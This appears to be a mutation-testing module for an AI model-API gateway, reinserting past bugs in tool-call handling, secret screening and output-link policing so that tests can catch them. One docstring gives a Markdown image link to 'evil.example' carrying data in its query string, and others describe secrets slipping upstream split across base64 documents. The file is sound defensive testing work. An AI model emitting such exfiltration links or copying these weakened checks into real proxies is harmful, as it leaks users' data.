"""Mutants of the model-API proxies' decision path (``theorems/gateway.md``, D10.2 and D10.5):
bugs the proxies once had, put back."""

from __future__ import annotations

from typing import Any

from fak_core import textlinks
from fak_core.gateway import anthropic_proxy, carriers, openai_proxy, text_output
from pytest_fak import mutant

from .sourcepatch import edited

__all__: list[str] = []


@mutant("D10.5/empty-id-unmatched")
def empty_id_unmatched() -> Any:
    """A kept OpenAI tool call the upstream sent with an empty id reaches the client with
    that empty id, while the gateway's record names it by the id it minted, as it once did
    (only a call with no id at all was given the minted one)."""
    return edited(
        openai_proxy._kept_call,
        ('entry["id"] = a.call.id', 'entry.setdefault("id", a.call.id)'),
    )


@mutant("D10.5/streamed-null-input-kept")
def streamed_null_input_kept() -> Any:
    """A streamed Anthropic tool use whose start block has a null (or no) ``input`` and no
    delta is decided, and relayed, with ``{}``, as it once was; the same use buffered is
    dropped MALFORMED."""
    return edited(
        anthropic_proxy._HeldTool.arguments,
        (
            "return _tool_input(self.start_input)",
            "return _tool_input(self.start_input if self.start_input is not None else {})",
        ),
    )


@mutant("D10.4/split-base64-secret-passes")
def split_base64_secret_passes() -> Any:
    """A carrier's parts are read end to end only as their texts and string values, as
    they once were: a secret split across two base64 documents (or a text and a
    document) went upstream in halves."""
    return edited(
        carriers.screen_text,
        (
            "orders = [texts, readable, json_strings(content, keys=False)]",
            "orders = [texts, json_strings(content, keys=False)]",
        ),
    )


@mutant("D10.8/text-output-unpoliced")
def text_output_unpoliced() -> Any:
    """The model's text reaches the client as the upstream wrote it, tainted session or
    not (the original proxies): ``![x](https://evil.example/p.png?d=<data>)`` is fetched
    by a client that renders Markdown."""
    return edited(
        text_output.text_policy,
        ('if state.text_links == "off"', 'if True or state.text_links == "off"'),
    )


@mutant("D10.8/stream-leaks-prefix")
def stream_leaks_prefix() -> Any:
    """A streamed text is decided piece by piece as it arrives: a link cut across two
    deltas is two words, neither of which names the destination, and goes out whole."""
    return edited(
        textlinks.TextStream.feed,
        (
            "while end and not text[end - 1].isspace():",
            "while False and end and not text[end - 1].isspace():",
        ),
    )
